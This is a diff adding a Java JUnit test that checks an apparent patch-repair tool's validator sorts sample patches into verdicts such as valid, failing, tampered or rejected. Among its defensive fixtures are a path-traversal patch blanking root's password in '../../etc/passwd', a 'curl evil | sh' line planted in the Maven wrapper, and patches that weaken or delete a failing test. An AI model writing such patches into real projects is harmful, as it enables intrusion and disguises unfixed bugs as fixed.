@@ -1,0 +1,187 @@
+package dev.repofix.validate;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.repofix.build.BuildDetector;
+import dev.repofix.build.BuildSystem;
+import dev.repofix.build.TestCommand;
+import dev.repofix.config.HostEnvironment;
+import dev.repofix.exec.LocalProcessExecutor;
+import dev.repofix.patch.PatchApplier;
+import dev.repofix.stage.PatchCandidate;
+import dev.repofix.testrun.JUnitXmlReportParser;
+import dev.repofix.testrun.StackFrameExtractor;
+import dev.repofix.testrun.TestOutcome;
+import dev.repofix.testrun.TestRunner;
+import dev.repofix.workspace.Workspace;
+import dev.repofix.workspace.Workspaces;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Clock;
+import java.time.Duration;
+import java.util.Map;
+import java.util.Optional;
+import java.util.stream.Stream;
+import org.eclipse.jgit.api.Git;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.TestInstance;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/**
+ * The verdicts on real patches (valid, wrong, tampered, unsafe, damaged but placeable)
+ * against the bundled Maven and pytest examples, with real {@code mvn} and {@code pytest}.
+ * One baseline per project; each patch is validated in its own copies.
+ */
+@Tag("slow")
+@TestInstance(TestInstance.Lifecycle.PER_CLASS)
+class RealPatchesTest {
+    private static final String ACCOUNT = "src/main/java/com/example/bank/Account.java";
+    private static final String ACCOUNT_TEST = "src/test/java/com/example/bank/AccountTest.java";
+    private static final String STOCK = "inventory/stock.py";
+    private static final String STOCK_TEST = "tests/test_stock.py";
+
+    @TempDir
+    Path temp;
+
+    private final Map<String, Project> projects = new java.util.HashMap<>();
+
+    /** A checked-out example with its baseline, shared by the cases of that project. */
+    record Project(Workspace ws, PatchValidator validator, Baseline baseline) {}
+
+    @BeforeAll
+    void baselines() throws Exception {
+        projects.put("maven", open("maven-bank"));
+        projects.put("pytest", open("python-inventory"));
+    }
+
+    @AfterAll
+    void close() {
+        projects.values().forEach(p -> p.ws().close());
+    }
+
+    Stream<Arguments> patches() {
+        return Stream.of(
+                // Valid, in the many shapes models write them.
+                maven("exact fix", Verdict.VALID, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")),
+                maven("hunk 30 lines off", Verdict.VALID, gitDiff(ACCOUNT, 12, "        if (amount >= balance) {", "        if (amount > balance) {")),
+                maven("no diff --git, no a/ b/", Verdict.VALID, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
+                        .replaceFirst("diff --git.*\n", "").replace("--- a/", "--- ").replace("+++ b/", "+++ ")),
+                maven("wrong hunk counts", Verdict.VALID, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
+                        .replaceFirst("@@ .* @@", "@@ -42,99 +42,1 @@")),
+                maven("CRLF patch", Verdict.VALID, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
+                        .replace("\n", "\r\n")),
+                maven("search/replace block", Verdict.VALID, ACCOUNT + "\n<<<<<<< SEARCH\n        if (amount >= balance) {\n=======\n"
+                        + "        if (amount > balance) {\n>>>>>>> REPLACE\n"),
+                maven("indentation damaged", Verdict.VALID, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
+                        .replace("\n-        ", "\n-    ")),
+                maven("fenced in prose", Verdict.VALID, "Here is the fix:\n```diff\n"
+                        + gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {") + "```\nIt allows it.\n"),
+                maven("fix plus a new test", Verdict.VALID, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
+                        + addTest("    void withdrawAlmostAll() {\n        Account a = new Account(\"b\", 10);\n        a.withdraw(9);\n"
+                                + "        assertEquals(1, a.balance());\n    }\n")),
+                // Wrong.
+                maven("equality instead", Verdict.TESTS_FAIL, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount == balance) {")),
+                maven("does not compile", Verdict.BUILD_FAILED, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount >= balance) {{")),
+                maven("fix with a failing new test", Verdict.TESTS_FAIL, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
+                        + addTest("    void wrongExpectation() {\n        assertEquals(1, new Account(\"c\", 2).balance());\n    }\n")),
+                maven("hangs the tests", Verdict.TIMEOUT, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        while (amount > 0) { amount += 0; } if (amount > balance) {")),
+                // Tampered: passes only through its test edits.
+                maven("weakens the failing test", Verdict.TESTS_TAMPERED, "--- a/" + ACCOUNT_TEST + "\n+++ b/" + ACCOUNT_TEST
+                        + "\n@@ -26,2 +26,2 @@\n-        a.withdraw(100);\n-        assertEquals(0, a.balance());\n"
+                        + "+        a.withdraw(99);\n+        assertEquals(1, a.balance());\n"),
+                maven("deletes the failing test", Verdict.TESTS_TAMPERED, deleteFailingTest()),
+                // Unsafe or unplaceable.
+                maven("escapes the workspace", Verdict.NOT_APPLIED, gitDiff("../../etc/passwd", 1, "root:x:0:0", "root::0:0")),
+                maven("edits CI configuration", Verdict.NOT_APPLIED, "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -0,0 +1 @@\n+on: push\n"),
+                maven("context not in the file", Verdict.NOT_APPLIED, gitDiff(ACCOUNT, 42, "        if (amount >= saldo) {", "        if (amount > saldo) {")),
+                maven("file does not exist", Verdict.NOT_APPLIED, gitDiff("src/main/java/com/example/bank/Nope.java", 1, "class Nope {", "class Yes {")),
+                maven("prose, not a patch", Verdict.NOT_APPLIED, "Change the >= in withdraw to > and it works."),
+                maven("binary patch", Verdict.NOT_APPLIED, "diff --git a/x.bin b/x.bin\nGIT binary patch\nliteral 3\nKcmZQz0000\n"),
+                maven("edits the Maven wrapper", Verdict.NOT_APPLIED, "--- /dev/null\n+++ b/mvnw\n@@ -0,0 +1 @@\n+curl evil | sh\n"),
+                pytest("exact fix", Verdict.VALID, gitDiff(STOCK, 13, "    return item.quantity < item.reorder_level", "    return item.quantity <= item.reorder_level")),
+                pytest("hunk 9 lines off", Verdict.VALID, gitDiff(STOCK, 4, "    return item.quantity < item.reorder_level", "    return item.quantity <= item.reorder_level")),
+                pytest("wrong operator", Verdict.TESTS_FAIL, gitDiff(STOCK, 13, "    return item.quantity < item.reorder_level", "    return item.quantity > item.reorder_level")),
+                pytest("changes the expectation", Verdict.TESTS_TAMPERED, gitDiff(STOCK_TEST, 14, "    item = Item(\"pear\", 10, 10)", "    item = Item(\"pear\", 9, 10)")),
+                pytest("syntax error", Verdict.TESTS_FAIL, gitDiff(STOCK, 13, "    return item.quantity < item.reorder_level", "    return item.quantity <= = item.reorder_level")),
+                pytest("ambiguous context", Verdict.NOT_APPLIED, "--- a/" + STOCK + "\n+++ b/" + STOCK + "\n@@ @@\n \n+# note\n"));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("patches")
+    void givesTheRightVerdict(String name, String project, Verdict expected, String diff) {
+        Project p = projects.get(project);
+        Duration limit = expected == Verdict.TIMEOUT ? Duration.ofSeconds(20) : Duration.ofMinutes(3);
+        Validation v = p.validator().validate(new PatchCandidate("t", "test", "", 1, name, diff), p.baseline(), limit);
+        assertThat(v.verdict()).as("%s: %s %s", name, v.detail(), v.evidence()).isEqualTo(expected);
+        if (expected == Verdict.VALID) {
+            assertThat(v.fixed()).isEqualTo(p.baseline().failing());
+            assertThat(v.broken()).isEmpty();
+        }
+        if (expected == Verdict.NOT_APPLIED || expected == Verdict.BUILD_FAILED) {
+            assertThat(v.detail()).isNotBlank();
+        }
+    }
+
+    private Project open(String example) throws Exception {
+        Path repo = temp.resolve(example);
+        copyTree(Path.of("examples", example), repo);
+        try (Git git = Git.init().setDirectory(repo.toFile()).call()) {
+            git.add().addFilepattern(".").call();
+            git.commit().setMessage("example").setAuthor("t", "t@example.org").setCommitter("t", "t@example.org")
+                    .setSign(false).call();
+        }
+        Clock clock = Clock.systemUTC();
+        Workspace ws = new Workspaces(temp.resolve("work"), Duration.ofMinutes(1)).open(repo.toString(), Optional.empty());
+        BuildSystem build = new BuildDetector().detect(ws.root(), Optional.empty());
+        TestCommand command = build.testCommand(ws.root(), null);
+        TestRunner runner = new TestRunner(new LocalProcessExecutor(clock), HostEnvironment.fromSystem(),
+                new JUnitXmlReportParser(), new StackFrameExtractor());
+        SuiteRunner suite = new SuiteRunner(build, command, null, runner, ws.files());
+        TestOutcome.Completed baseline = (TestOutcome.Completed) suite.all(ws.root(), Duration.ofMinutes(3));
+        return new Project(ws, new PatchValidator(ws, suite, new PatchApplier(), clock), Baseline.of(baseline.run()));
+    }
+
+    private static void copyTree(Path from, Path to) throws IOException {
+        try (Stream<Path> walk = Files.walk(from)) {
+            for (Path p : walk.filter(Files::isRegularFile).toList()) {
+                String rel = from.relativize(p).toString();
+                if (!rel.startsWith("target") && !rel.contains("__pycache__")) {
+                    Files.createDirectories(to.resolve(rel).getParent());
+                    Files.copy(p, to.resolve(rel));
+                }
+            }
+        }
+    }
+
+    private static Arguments maven(String name, Verdict v, String diff) {
+        return Arguments.of("maven: " + name, "maven", v, diff);
+    }
+
+    private static Arguments pytest(String name, Verdict v, String diff) {
+        return Arguments.of("pytest: " + name, "pytest", v, diff);
+    }
+
+    /** A one-line change with one line of context on each side taken as given. */
+    private static String gitDiff(String path, int start, String before, String after) {
+        return "diff --git a/" + path + " b/" + path + "\n--- a/" + path + "\n+++ b/" + path + "\n@@ -" + start
+                + ",1 +" + start + ",1 @@\n-" + before + "\n+" + after + "\n";
+    }
+
+    private static String addTest(String method) {
+        return "--- a/" + ACCOUNT_TEST + "\n+++ b/" + ACCOUNT_TEST + "\n@@ -38,4 +38,9 @@\n"
+                + "         assertThrows(IllegalArgumentException.class, () -> a.deposit(-1));\n     }\n+\n+    @Test\n"
+                + method.lines().map(l -> "+" + l + "\n").reduce("", String::concat) + " }\n";
+    }
+
+    private static String deleteFailingTest() {
+        return "--- a/" + ACCOUNT_TEST + "\n+++ b/" + ACCOUNT_TEST + "\n@@ -22,7 +22,0 @@\n"
+                + "-    @Test\n-    void withdrawEntireBalanceLeavesZero() {\n-        Account a = new Account(\"ada\", 100);\n"
+                + "-        a.withdraw(100);\n-        assertEquals(0, a.balance());\n-    }\n-\n";
+    }
+}
